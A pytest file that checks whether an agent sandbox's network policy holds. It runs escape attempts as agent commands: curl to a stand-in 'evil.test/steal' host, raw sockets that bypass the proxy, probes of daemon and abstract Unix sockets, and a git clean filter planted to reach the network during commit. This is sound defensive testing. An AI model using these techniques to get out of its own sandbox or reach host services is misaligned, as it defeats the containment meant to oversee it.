"""Network attacks from inside a sandbox: each runs as a real agent command through
``run_workflow`` and is shown to work where the policy allows it before its containment
counts."""

from __future__ import annotations

import os
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from gitproc.git import Repo
from planner import Limits
from sandbox.errors import SandboxBadInputError
from tests.security.harness import Server, run_tasks

# A raw TCP connect from Python: prints CONNECTED or the errno name (ignores proxy vars).
RAW = ("python3 -c 'import socket,errno,sys\n"
       "s=socket.socket(socket.AF_{fam},socket.SOCK_STREAM)\n"
       "try:\n s.connect({addr}); print(\"CONNECTED\")\n"
       "except OSError as e: print(\"REFUSED\", errno.errorcode.get(e.errno, e.errno))'")


def raw(addr: str, fam: str = "INET") -> str:
    return RAW.format(addr=addr, fam=fam)


@pytest.mark.parametrize("confinement", ["auto", "bwrap"])  # the shim forwards either way
def test_allowed_host_is_reached_through_the_proxy(pylib: Repo, server: Server, curl: str,
                                                   confinement: str) -> None:
    res = run_tasks(pylib, {"id": "a", "command": "curl -sS http://model.test/v1/x"},
                    limits={"network": {"allow": ["model.test"]}},
                    proxy_hosts=server.hosts("model.test"), confinement=confinement)
    r = res.result("a")
    assert r.status == "succeeded", r.log_tail
    assert "REACHED-HOST-SERVER" in r.log_tail and server.hits == ["model.test"]


def test_connect_tunnel_to_allowed_host_and_refusal_of_others(pylib: Repo, server: Server, curl: str) -> None:
    # curl -p: CONNECT through the proxy (what every HTTPS client does).
    cmd = ("curl -sS -p http://model.test/ok; echo; "
           "curl -sS -p http://evil.test/steal -o /dev/null -w 'evil:%{http_code}\\n'; "
           "curl -sS http://evil.test/steal -w 'plain:%{http_code}\\n' -o /dev/null")
    res = run_tasks(pylib, {"id": "a", "command": cmd},
                    limits={"network": {"allow": ["model.test"]}},
                    proxy_hosts=server.hosts("model.test", "evil.test"))
    tail = res.result("a").log_tail
    assert "REACHED-HOST-SERVER" in tail                   # the tunnel works...
    assert "plain:403" in tail                             # ...plain HTTP to evil.test is refused
    assert "CONNECT" in tail or "evil:000" in tail or "evil:403" in tail  # and so is the tunnel
    # The server would have answered evil.test (it is mapped to it): it saw model.test only.
    assert server.hits == ["model.test"]


def test_direct_connection_bypassing_the_proxy_fails(pylib: Repo, server: Server, curl: str) -> None:
    attack = raw(f'("127.0.0.1", {server.port})') + f"; curl -sS --noproxy '*' http://127.0.0.1:{server.port}/"
    # Control: with the host's network the same connect reaches the server.
    full = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": "full"})
    assert "CONNECTED" in full.result("a").log_tail and server.hits
    server.hits.clear()
    for policy in ({"allow": ["model.test"]}, "none"):
        res = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": policy},
                        proxy_hosts=server.hosts("model.test"))
        tail = res.result("a").log_tail
        assert "REFUSED" in tail and "CONNECTED" not in tail, (policy, tail)
        assert server.hits == [], policy


def test_none_reaches_nothing_not_even_a_proxy(pylib: Repo, server: Server, curl: str) -> None:
    cmd = (raw('("127.0.0.1", 3128)') + "; curl -sS http://model.test/ -o /dev/null "
           "-w 'code:%{http_code}\\n'; echo rc=$?; env | grep -ci _proxy=; true")
    res = run_tasks(pylib, {"id": "a", "command": cmd}, limits={"network": "none"},
                    proxy_hosts=server.hosts("model.test"))
    tail = res.result("a").log_tail
    assert "REFUSED" in tail and "CONNECTED" not in tail and "code:000" in tail and server.hits == []


def test_old_boolean_network_settings_still_mean_full_and_none(pylib: Repo, server: Server) -> None:
    assert Limits(network=True).network == "full" and Limits(network=False).network == "none"
    attack = raw(f'("127.0.0.1", {server.port})')
    on = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": True})
    off = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": False})
    assert "CONNECTED" in on.result("a").log_tail
    assert "REFUSED" in off.result("a").log_tail


@pytest.fixture
def unix_listener(tmp_path: Path) -> Iterator[tuple[str, list[int]]]:
    """A daemon's socket outside /run and /tmp's reach: under the caller's home, where
    Docker Desktop keeps its own (``~/.docker/run``), but in a directory no list names."""
    home = Path(os.environ["HOME"])
    path = home / ".local" / "share" / f"daemon-{uuid.uuid4().hex[:6]}.sock"
    path.parent.mkdir(parents=True, exist_ok=True)
    accepted: list[int] = []
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(path))
    srv.listen(8)

    def serve() -> None:
        while True:
            try:
                c, _ = srv.accept()
            except OSError:
                return
            accepted.append(1)
            c.close()

    threading.Thread(target=serve, daemon=True).start()
    yield str(path), accepted
    srv.close()
    path.unlink(missing_ok=True)


@pytest.mark.parametrize("policy", ["none", "full", {"allow": ["model.test"]}])
def test_daemon_unix_socket_is_unreachable(pylib: Repo, unix_listener: tuple[str, list[int]],
                                           policy: object) -> None:
    path, accepted = unix_listener
    attack = raw(f'"{path}"', "UNIX")
    # Control: without confinement (the explicit opt-out) the agent connects.
    ctl = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": "full"}, confine_=False)
    assert "CONNECTED" in ctl.result("a").log_tail and accepted
    accepted.clear()
    res = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": policy})
    assert "REFUSED" in res.result("a").log_tail, res.result("a").log_tail
    assert accepted == []


@pytest.mark.parametrize("policy", ["none", "full"])
def test_host_abstract_unix_socket_is_unreachable(pylib: Repo, policy: str) -> None:
    name = f"forkyard-test-{uuid.uuid4().hex[:8]}"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind("\0" + name)  # like X11's @/tmp/.X11-unix/X0 on a desktop
    srv.listen(8)
    try:
        attack = raw(f'"\\0{name}"', "UNIX")
        ctl = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": "full"},
                        confine_=False)
        assert "CONNECTED" in ctl.result("a").log_tail
        res = run_tasks(pylib, {"id": "a", "command": attack}, limits={"network": policy})
        tail = res.result("a").log_tail
        assert "REFUSED" in tail and "CONNECTED" not in tail, tail
    finally:
        srv.close()


def test_private_address_behind_an_allowed_name_is_refused(pylib: Repo, curl: str) -> None:
    # "localhost" is allowed by name but resolves to loopback: the proxy refuses it, so an
    # allowed name whose DNS an attacker controls does not reach the host's services.
    res = run_tasks(pylib, {"id": "a", "command": "curl -sS --noproxy '' http://localhost:9/ -w '%{http_code}'"},
                    limits={"network": {"allow": ["localhost"]}})
    tail = res.result("a").log_tail
    assert "403" in tail and "private" in tail


def test_allow_is_refused_where_only_landlock_confines(pylib: Repo) -> None:
    res = run_tasks(pylib, {"id": "a", "command": "true"},
                    limits={"network": {"allow": ["model.test"]}}, confinement="landlock")
    r = res.result("a")
    assert r.status == "failed"


def test_bad_allowlist_entry_is_bad_input(pylib: Repo) -> None:
    with pytest.raises(SandboxBadInputError, match="limits.network"):
        run_tasks(pylib, {"id": "a", "command": "true"},
                  limits={"network": {"allow": ["https://example.com/path"]}})


def test_the_commit_step_has_no_network_even_when_the_agent_had_it(
        pylib: Repo, server: Server, proof: Path) -> None:
    """The agent's own git config (its private home) names a clean filter that runs
    during its commit step: with the network ``full`` for the agent, that step still
    reaches nothing."""
    url = f"http://127.0.0.1:{server.port}/"
    reach = f"python3 -c \"import urllib.request; urllib.request.urlopen('{url}', timeout=3)\""
    probe = proof / "probe.sh"
    probe.write_text(f"#!/bin/sh\ntouch {proof}/ran-$1\n{reach} && touch {proof}/reached-$1\n"
                     "cat\n")
    probe.chmod(0o755)
    cmd = (f"{probe} agent </dev/null >/dev/null; "
           f"git config --global filter.probe.clean '{probe} commit'; "
           "echo '*.bin filter=probe' > .gitattributes; echo x > data.bin")
    res = run_tasks(pylib, {"id": "net", "command": cmd}, limits={"network": "full"},
                    extra_rw=[str(proof)])
    assert (proof / "reached-agent").exists()  # the agent itself had the network
    assert (proof / "ran-commit").exists()     # the filter ran in the commit step
    assert not (proof / "reached-commit").exists()
    assert res.result("net").integrated
